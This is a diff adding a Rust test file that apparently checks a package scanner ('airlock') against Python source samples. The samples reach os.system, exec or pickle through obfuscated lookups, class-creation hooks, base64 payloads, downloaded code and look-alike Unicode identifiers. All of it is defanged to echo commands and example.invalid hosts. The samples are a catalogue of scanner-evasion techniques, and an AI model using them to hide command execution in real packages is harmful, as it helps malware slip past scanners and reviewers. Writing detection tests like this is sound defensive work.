@@ -1,0 +1,338 @@
+//! Module-level code that reaches a process, exec or an unpickler through a spelling no word
+//! of it names: computed lookups (`getattr(os, 'sys' + 'tem')`, `vars(os)[…]`,
+//! `sys.modules.get`), bindings (walrus, tuple unpacking, class attributes, dict displays, a
+//! rebinding in another branch, `setattr(builtins, …)`), callables handed to something that
+//! calls them (`atexit.register`, `Thread(target=…)`, `map`, `functools.partial`,
+//! `operator.methodcaller`), code run at class creation (decorators, metaclasses,
+//! `__init_subclass__`), more sinks (`posix.system`, `pty.spawn`, ctypes, `runpy`, the `code`
+//! module, `pickle.loads`), exec of code built from pieces or downloaded, and NFKC-normalised
+//! identifiers (PEP 3131). Each is written here defanged (commands only `echo`, hosts under
+//! `example.invalid`) and scanned with the library; nothing is executed. The benign
+//! look-alikes, taken from shapes in real packages, must stay below medium.
+
+use airlock::analyse::BudgetLimits;
+use airlock::finding::Severity;
+use airlock::scan::{scan_file, FileReport};
+use base64::Engine;
+
+fn b64(s: &[u8]) -> String {
+    base64::engine::general_purpose::STANDARD.encode(s)
+}
+
+/// Scan `src` written as `name` in a fresh folder.
+fn scan(name: &str, src: &str) -> FileReport {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let p = dir.path().join(name);
+    std::fs::write(&p, src).expect("write");
+    scan_file(&p, BudgetLimits::default())
+}
+
+fn worst(r: &FileReport, rule: &str) -> Option<Severity> {
+    r.findings
+        .iter()
+        .filter(|f| f.rule.id == rule)
+        .map(|f| f.severity)
+        .max()
+}
+
+fn summary(r: &FileReport) -> Vec<String> {
+    r.findings
+        .iter()
+        .map(|f| {
+            format!(
+                "{} {} {:?} {}",
+                f.rule.id, f.severity, f.location.members, f.evidence
+            )
+        })
+        .collect()
+}
+
+/// Every case: (name, source, rule, least severity).
+fn check(cases: &[(&str, String, &str, Severity)]) {
+    let mut failures = Vec::new();
+    for (case, src, rule, min) in cases {
+        let r = scan("mod.py", src);
+        let got = worst(&r, rule);
+        if got.is_none_or(|s| s < *min) {
+            failures.push(format!(
+                "{case}: want {rule} >= {min}, got {got:?}\n{src}\n{:#?}",
+                summary(&r)
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
+}
+
+const SHELL: &str = "python-shell-command";
+
+#[test]
+fn computed_lookups_of_a_process_call_are_followed() {
+    use Severity::High;
+    let cases = [
+        (
+            "concat",
+            "import os\ngetattr(os, 'sys' + 'tem')('echo airlock-test')\n",
+        ),
+        (
+            "variable",
+            "import os\nname = 'sys'\nname += 'tem'\ngetattr(os, name)('echo airlock-test')\n",
+        ),
+        (
+            "join",
+            "import os\ngetattr(os, ''.join(['sy', 'st', 'em']))('echo airlock-test')\n",
+        ),
+        (
+            "chr",
+            "import os\ngetattr(os, chr(115) + chr(121) + 'stem')('echo airlock-test')\n",
+        ),
+        (
+            "reversed",
+            "import os\ngetattr(os, 'metsys'[::-1])('echo airlock-test')\n",
+        ),
+        (
+            "fstring",
+            "import os\ns = 'sys'\ngetattr(os, f'{s}tem')('echo airlock-test')\n",
+        ),
+        (
+            "format",
+            "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('echo airlock-test')\n",
+        ),
+        (
+            "percent",
+            "import os\ngetattr(os, '%stem' % 'sys')('echo airlock-test')\n",
+        ),
+        (
+            "replace",
+            "import os\ngetattr(os, 'sysXem'.replace('X', 't'))('echo airlock-test')\n",
+        ),
+        (
+            "modules-get",
+            "import sys\nsys.modules.get('os').system('echo airlock-test')\n",
+        ),
+        (
+            "dunder-dict",
+            "import os\nos.__dict__['system']('echo airlock-test')\n",
+        ),
+        (
+            "vars",
+            "import os\nvars(os)['system']('echo airlock-test')\n",
+        ),
+        (
+            "methodcaller",
+            "import operator, os\noperator.methodcaller('system', 'echo airlock-test')(os)\n",
+        ),
+    ];
+    let cases: Vec<_> = cases
+        .iter()
+        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
+        .collect();
+    check(&cases);
+}
+
+#[test]
+fn bindings_and_handed_callables_are_followed() {
+    use Severity::High;
+    let cases = [
+        ("walrus", "import os\nif (f := os.system):\n    f('echo airlock-test')\n"),
+        ("tuple", "import os\na, b = os.system, 1\na('echo airlock-test')\n"),
+        ("class-attr", "import os\nclass C:\n    run = os.system\nC.run('echo airlock-test')\n"),
+        ("dict-display", "import os\n{'r': os.system}['r']('echo airlock-test')\n"),
+        ("dict-name", "import os\nd = {'r': os.system}\nd['r']('echo airlock-test')\n"),
+        ("try-rebind", "try:\n    import os as q\nexcept ImportError:\n    q = None\nq.system('echo airlock-test')\n"),
+        ("if-rebind", "import sys\nif sys.platform != 'win32':\n    import os as q\nelse:\n    q = None\nq.system('echo airlock-test')\n"),
+        ("setattr-builtins", "import os, builtins\nsetattr(builtins, 'x', os.system)\nx('echo airlock-test')\n"),
+        ("partial", "import functools, os\nfunctools.partial(os.system, 'echo airlock-test')()\n"),
+        ("partial-bound", "from functools import partial\nimport os\nrun = partial(os.system, 'echo airlock-test')\nrun()\n"),
+        ("map", "import os\nlist(map(os.system, ['echo airlock-test']))\n"),
+        ("thread", "import threading, os\nthreading.Thread(target=os.system, args=('echo airlock-test',)).start()\n"),
+        ("atexit", "import atexit, os\natexit.register(os.system, 'echo airlock-test')\n"),
+        ("timer", "import threading, os\nthreading.Timer(1, os.system, ['echo airlock-test']).start()\n"),
+        ("wrapper", "import os\ndef sh(c):\n    return os.system(c)\nsh('echo airlock-test')\n"),
+    ];
+    let cases: Vec<_> = cases
+        .iter()
+        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
+        .collect();
+    check(&cases);
+}
+
+#[test]
+fn code_run_at_class_creation_is_at_import() {
+    use Severity::High;
+    let cases = [
+        ("decorator", "import os\ndef deco(f):\n    os.system('echo airlock-test')\n    return f\n@deco\ndef g():\n    pass\n"),
+        ("decorator-lambda", "import os\n@lambda f: os.system('echo airlock-test')\ndef g():\n    pass\n"),
+        ("metaclass", "import os\nclass M(type):\n    def __new__(m, n, b, d):\n        os.system('echo airlock-test')\n        return super().__new__(m, n, b, d)\nclass X(metaclass=M):\n    pass\n"),
+        ("init-subclass", "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('echo airlock-test')\nclass X(B):\n    pass\n"),
+        ("set-name", "import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system('echo airlock-test')\nclass X:\n    a = D()\n"),
+        ("constructor", "import os\nclass App:\n    def __init__(self):\n        os.system('echo airlock-test')\napp = App()\n"),
+    ];
+    let cases: Vec<_> = cases
+        .iter()
+        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
+        .collect();
+    check(&cases);
+}
+
+#[test]
+fn other_process_and_code_sinks_are_known() {
+    use Severity::{Critical, High};
+    let pickle = b64(b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x11echo airlock-test\x94\x85\x94R\x94.");
+    let code = b64(b"import os; os.system('echo airlock-test')");
+    let cases = vec![
+        ("posix", "import posix\nposix.system('echo airlock-test')\n".to_string(), SHELL, High),
+        ("platform-popen", "import platform\nplatform.popen('echo airlock-test')\n".into(), SHELL, High),
+        ("pty", "import pty\npty.spawn('/bin/sh')\n".into(), SHELL, High),
+        ("ctypes", "import ctypes\nctypes.CDLL(None).system(b'echo airlock-test')\n".into(), SHELL, High),
+        ("ctypes-bound", "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(b'echo airlock-test')\n".into(), SHELL, High),
+        ("asyncio", "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('echo airlock-test'))\n".into(), SHELL, High),
+        ("execl", "import os\nos.execl('/bin/sh', 'sh', '-c', 'echo airlock-test')\n".into(), SHELL, High),
+        ("spawnlp", "import os\nos.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', 'echo airlock-test')\n".into(), SHELL, High),
+        ("commands", "import commands\ncommands.getoutput('echo airlock-test')\n".into(), SHELL, High),
+        ("code-module", "import code\ncode.InteractiveInterpreter().runsource(\"import os;os.system('echo airlock-test')\")\n".into(), SHELL, High),
+        ("runpy", "import runpy\nrunpy.run_path('/tmp/airlock-test.py')\n".into(), "python-exec-computed", High),
+        ("pickle-loads", format!("import pickle, base64\npickle.loads(base64.b64decode('{pickle}'))\n"), "pickle-dangerous-call", Critical),
+        ("pickle-loads-decoded", format!("import pickle, base64\npickle.loads(base64.b64decode('{pickle}'))\n"), "python-exec-decoded", Critical),
+        ("partial-exec", format!("import functools, base64\nfunctools.partial(exec, base64.b64decode('{code}'))()\n"), "python-exec-decoded", Critical),
+        ("decoder-wrapper", format!("import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d('{code}'))\n"), "python-exec-decoded", Critical),
+    ];
+    check(&cases);
+}
+
+#[test]
+fn exec_of_built_or_downloaded_code_is_reported_and_the_code_analysed() {
+    use Severity::{Critical, High};
+    let payload = "import os;os.system('echo airlock-test')";
+    let ints: Vec<String> = payload.bytes().map(|b| b.to_string()).collect();
+    let ints = ints.join(",");
+    let cases = vec![
+        (
+            "chr-join",
+            format!("exec(''.join(chr(c) for c in [{ints}]))\n"),
+        ),
+        ("map-chr", format!("exec(''.join(map(chr, [{ints}])))\n")),
+        (
+            "xor",
+            format!("exec(''.join(chr(c ^ 0) for c in [{ints}]))\n"),
+        ),
+        ("bytes-list", format!("exec(bytes([{ints}]))\n")),
+        (
+            "percent",
+            "exec('import %s;%s.system(\"echo airlock-test\")' % ('os', 'os'))\n".into(),
+        ),
+        (
+            "format",
+            "exec('import {0};{0}.system(\"echo airlock-test\")'.format('os'))\n".into(),
+        ),
+        (
+            "replace",
+            "exec('import X;X.system(\"echo airlock-test\")'.replace('X', 'os'))\n".into(),
+        ),
+        (
+            "fstring",
+            "m = 'os'\nexec(f'import {m};{m}.system(\"echo airlock-test\")')\n".into(),
+        ),
+        (
+            "in-variable",
+            format!("code = ''.join(map(chr, [{ints}]))\nexec(code)\n"),
+        ),
+    ];
+    let mut failures = Vec::new();
+    for (case, src) in &cases {
+        let r = scan("mod.py", src);
+        let exec = worst(&r, "python-exec-computed");
+        // The built code is analysed: its command is reported in the decoded member.
+        let nested = r.findings.iter().any(|f| {
+            f.rule.id == SHELL
+                && f.severity >= High
+                && f.location
+                    .members
+                    .iter()
+                    .any(|m| m.starts_with("<decoded code"))
+        });
+        if exec != Some(High) || !nested {
+            failures.push(format!(
+                "{case}: exec {exec:?}, nested {nested}: {:#?}",
+                summary(&r)
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+    check(&[
+        (
+            "download",
+            "import urllib.request\nexec(urllib.request.urlopen('https://example.invalid/p.py').read())\n".into(),
+            "python-exec-computed",
+            Critical,
+        ),
+        (
+            "requests",
+            "import requests\nexec(requests.get('https://example.invalid/p.py').text)\n".into(),
+            "python-exec-computed",
+            Critical,
+        ),
+        (
+            "tmp-file",
+            "exec(open('/tmp/airlock-test.py').read())\n".into(),
+            "python-exec-computed",
+            High,
+        ),
+    ]);
+}
+
+#[test]
+fn nfkc_identifiers_are_read_as_python_reads_them() {
+    use Severity::{Critical, High};
+    let code = b64(b"import os; os.system('echo airlock-test')");
+    check(&[
+        (
+            "fullwidth",
+            "import os\n\u{ff4f}\u{ff53}.system('echo airlock-test')\n".into(),
+            SHELL,
+            High,
+        ),
+        (
+            "fraktur",
+            "import os\nos.\u{1d530}ystem('echo airlock-test')\n".into(),
+            SHELL,
+            High,
+        ),
+        (
+            "bold-exec",
+            format!(
+                "import base64\n\u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}(base64.b64decode('{code}'))\n"
+            ),
+            "python-exec-decoded",
+            Critical,
+        ),
+    ]);
+}
+
+/// Shapes from real packages that look like the above: nothing at medium or above.
+#[test]
+fn benign_look_alikes_stay_below_medium() {
+    let cases = [
+        // networkx: exec of a constant kept in a variable, in a test function.
+        ("exec-constant-in-test", "def test_x():\n    s = 'a = attach(name)'\n    exec(s, {}, {})\n"),
+        // pandas: compile of a module constant in a function.
+        ("compile-constant", "_SRC = 'x = 1'\ndef load(path, module):\n    exec(compile(_SRC, path, 'exec'), module.__dict__)\n"),
+        // scikit-learn, torch: unpickling decoded cache data inside a function.
+        ("unpickle-cache", "import pickle, codecs\ndef load(raw):\n    data = codecs.decode(raw, 'zlib_codec')\n    return pickle.loads(data)\n"),
+        // rich: a demo under a main guard joined with another test.
+        ("main-guard-and", "import sys\nif sys.platform != 'win32' and __name__ == '__main__':\n    import pty\n    pty.spawn(sys.argv[1:])\n"),
+        ("partial-run", "import functools, subprocess\n_run = functools.partial(subprocess.run, check=True)\n"),
+        ("optional-import", "try:\n    import subprocess\nexcept ImportError:\n    subprocess = None\ndef version():\n    return subprocess.run(['git', 'describe'], capture_output=True)\n"),
+        ("getattr-config", "import os, sys\nFROZEN = getattr(sys, 'frozen', False)\nHOME = os.environ.get('HOME')\nplugins = {'json': sys.modules.get('json')}\n"),
+        ("registry-class", "import os\nclass Registry:\n    def __init__(self):\n        self.items = {}\n    def run(self, cmd):\n        return os.system(cmd)\nREGISTRY = Registry()\n"),
+        ("thread-worker", "import threading\ndef work():\n    return 1\nthreading.Thread(target=work, daemon=True).start()\n"),
+        ("cjk-names", "# 中文注释\ndef 计算(x):\n    return x + 1\n值 = 计算(1)\n"),
+    ];
+    let mut failures = Vec::new();
+    for (case, src) in cases {
+        let r = scan("mod.py", src);
+        if r.findings.iter().any(|f| f.severity >= Severity::Medium) {
+            failures.push(format!("{case}: {:#?}", summary(&r)));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
